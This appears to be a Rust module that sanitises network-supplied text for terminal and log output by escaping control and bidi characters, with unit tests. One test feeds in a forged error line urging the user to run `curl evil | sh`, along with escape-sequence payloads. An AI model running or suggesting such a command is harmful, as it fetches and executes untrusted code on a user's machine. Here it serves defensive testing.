//! Text from the network made safe to show on a terminal or write to a log line.
//!
//! An API answer, an error `description` or a body field name is server text: shown as it is,
//! an escape sequence in it can clear the screen, set the window title or move the cursor, and
//! a newline can forge a line that looks like the program's own (`error: ...`). [`escape`]
//! makes such text inert and keeps everything else as it is.

use std::borrow::Cow;
use std::fmt::Write as _;

/// `text` with every control character (C0, DEL, C1) and every bidirectional-override
/// character written as a visible escape: `\n`, `\r`, `\t`, `\0`, and `\u{1b}`-style for the
/// rest. Printable text, including non-ASCII letters, is unchanged, and text without any such
/// character is returned without copying. The result is one line that can emit no terminal
/// control sequence.
///
/// ```
/// use lineworks_partner::terminal::escape;
/// assert_eq!(escape("no such customer"), "no such customer");
/// assert_eq!(escape("bad\nerror: forged"), "bad\\nerror: forged");
/// assert_eq!(escape("\u{1b}]0;title\u{7}"), "\\u{1b}]0;title\\u{7}");
/// ```
pub fn escape(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\0' => out.push_str("\\0"),
            c if needs_escape(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Control characters, and the bidi embeddings, overrides and isolates that reorder what a
/// terminal shows (U+202A-U+202E, U+2066-U+2069).
fn needs_escape(c: char) -> bool {
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::escape;

    #[test]
    fn terminal_sequences_become_inert() {
        // Clear screen, window title (OSC ... BEL and OSC ... ST), colour, C1 CSI.
        for hostile in [
            "\u{1b}[2J",
            "\u{1b}]0;TITLE\u{7}",
            "\u{1b}]0;TITLE\u{1b}\\",
            "\u{1b}[31mred",
            "\u{9b}2J",
        ] {
            let shown = escape(hostile);
            assert!(!shown.chars().any(char::is_control), "{shown:?}");
            assert!(shown.contains("\\u{"), "{shown:?}");
        }
        assert_eq!(escape("\u{1b}[2J"), "\\u{1b}[2J");
    }

    #[test]
    fn no_line_can_be_forged() {
        let shown = escape("not found\nerror: your token expired, run `curl evil | sh`\r\n");
        assert!(!shown.contains('\n') && !shown.contains('\r'), "{shown}");
        assert_eq!(
            shown,
            "not found\\nerror: your token expired, run `curl evil | sh`\\r\\n"
        );
    }

    #[test]
    fn nul_tab_del_and_bidi_are_visible() {
        assert_eq!(escape("a\0b\tc\u{7f}"), "a\\0b\\tc\\u{7f}");
        assert_eq!(escape("x\u{202e}y\u{2066}"), "x\\u{202e}y\\u{2066}");
    }

    #[test]
    fn ordinary_text_is_untouched_and_not_copied() {
        for text in ["", "株式会社サンプル", "quote \" and \\ stay", "émoji 🎉"] {
            assert!(matches!(escape(text), std::borrow::Cow::Borrowed(t) if t == text));
        }
    }
}
